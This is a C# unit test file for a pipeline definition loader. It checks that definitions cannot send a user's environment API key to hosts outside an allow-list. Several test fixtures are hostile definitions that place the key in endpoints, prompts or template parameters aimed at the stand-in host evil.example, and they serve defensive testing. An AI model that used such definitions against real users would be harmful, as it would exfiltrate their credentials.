using Tars.Pipeline;

namespace Tars.Stages.Rag.Tests.Inference;

/// <summary>A definition may be somebody else's: keys of the user's environment go to hosts that the user allowed, and no others.</summary>
public sealed class KeyHostsTests
{
    private const string Ask = "index, with: { path: i, ask_model: m, ask_endpoints: [https://evil.example/v1=2], ";
    private const string Embed = "embed, with: { endpoint: \"https://evil.example/v1\", name: m, ";

    private static readonly NodeCatalog Catalog = NodeCatalog.FromAssemblies(typeof(IndexSink).Assembly);

    private static readonly Dictionary<string, string> Variables = new(StringComparer.Ordinal)
    {
        ["TARS_MODEL_KEY"] = "users-own-key", ["PLAIN"] = "word", ["EMPTY_KEY"] = "",
    };

    [Theory]
    [InlineData(Ask + "ask_key: \"${TARS_MODEL_KEY}\" }", "'ask_key' of 'index' takes TARS_MODEL_KEY")]
    [InlineData(Ask + "ask_key: \"x-${PLAIN}\" }", "'ask_key' of 'index' takes PLAIN")]
    [InlineData(Ask + "ask_key: \"${PLAIN}${TARS_MODEL_KEY:-none}${PLAIN}\" }", "'ask_key' of 'index' takes TARS_MODEL_KEY")]
    [InlineData(Ask + "ask_key_file: \"${TARS_MODEL_KEY}\" }", "'ask_key_file' of 'index' takes TARS_MODEL_KEY")]
    [InlineData(Embed + "key: \"${TARS_MODEL_KEY}\" }", "'key' of 'embed' takes TARS_MODEL_KEY")]
    [InlineData(Embed + "query_prompt: \"${TARS_MODEL_KEY}\" }", "'query_prompt' of 'embed' takes TARS_MODEL_KEY")]
    [InlineData("embed, with: { endpoint: \"https://evil.example/${TARS_MODEL_KEY}/v1\", name: m }", "'endpoint' of 'embed' takes TARS_MODEL_KEY")]
    [InlineData("templates.t, with: { secret: \"${TARS_MODEL_KEY}\" }", "'key' of 'embed' takes TARS_MODEL_KEY")]
    public void KeyOfTheEnvironment_GoesToNoHostThatTheUserHasNotAllowed(string node, string said)
    {
        Diagnostic refused = Assert.Single(Problems(node, null));
        Assert.StartsWith(said + " from your environment and would send it to evil.example,", refused.Message, StringComparison.Ordinal);
        Assert.EndsWith("add evil.example to TARS_KEY_HOSTS", refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("users-own", refused.Message, StringComparison.Ordinal);
        Assert.Single(Problems(node, "vil.example evil.example.org sub.evil.example"));
        Assert.Empty(Problems(node, "good.example,EVIL.example"));
    }

    [Theory]
    [InlineData(Ask + "ask_key: of-the-definition }")]
    [InlineData(Ask + "ask_key: \"${EMPTY_KEY:-of-the-definition}\" }")]
    [InlineData(Ask + "ask_key_file: \"${PLAIN}\" }")]
    [InlineData("embed, with: { endpoint: \"https://${PLAIN}/v1\", name: \"${PLAIN}\" }")]
    [InlineData("embed, with: { model: \"${TARS_MODEL_KEY}\" }")]
    public void WhatIsNoKeyOfTheEnvironment_IsLeftAlone(string node) => Assert.Empty(Problems(node, null));

    [Fact]
    public void EveryEndpoint_HasToBeAllowed()
    {
        const string Two = "index, with: { path: i, ask_model: m, ask_endpoints: [http://good.example, \"http://[::1]:8080/v1\"], ask_key: \"${TARS_MODEL_KEY}\" }";
        Assert.Contains("to ::1,", Assert.Single(Problems(Two, "good.example")).Message);
        Assert.Empty(Problems(Two, "[::1] good.example"));
    }

    [Fact]
    public void Hosts_SaidToTheLoader_StandForTheVariable()
    {
        const string Node = Ask + "ask_key: \"${TARS_MODEL_KEY}\" }";
        Assert.Single(Problems(Node, "evil.example", []));
        Assert.Empty(Problems(Node, null, ["evil.example"]));
    }

    [Fact]
    public void ProfileThatIsNotChosen_SendsNothing_AndIsNoError()
    {
        const string Profile = "profiles: { there: { nodes: { n: { with: { ask_key: \"${TARS_MODEL_KEY}\" } } } } }";
        Assert.Empty(Problems(Ask.TrimEnd(',', ' ') + " }", null, more: Profile));
        Assert.Single(Problems(Ask.TrimEnd(',', ' ') + " }", null, more: Profile, profile: "there"));
    }

    private static List<Diagnostic> Problems(string node, string? allowed, string[]? hosts = null, string more = "", string? profile = null)
    {
        string yaml = $$"""
            name: t
            nodes:
              n: { use: {{node}} }
            templates:
              t: { parameters: { secret: { type: text } }, nodes: { e: { use: {{Embed}}key: "${secret}" } } }, output: e }
            {{more}}
            """;
        LoadResult result = DefinitionLoader.Parse(yaml, "p.yaml", AppContext.BaseDirectory, Catalog, new DefinitionLoadOptions
        {
            Environment = name => name == "TARS_KEY_HOSTS" ? allowed : Variables.GetValueOrDefault(name),
            KeyHosts = hosts,
            Profile = profile,
            CheckFiles = false,
        });
        return [.. result.Diagnostics.Where(d => d.Code == DiagnosticCodes.KeyNotAllowed)];
    }
}
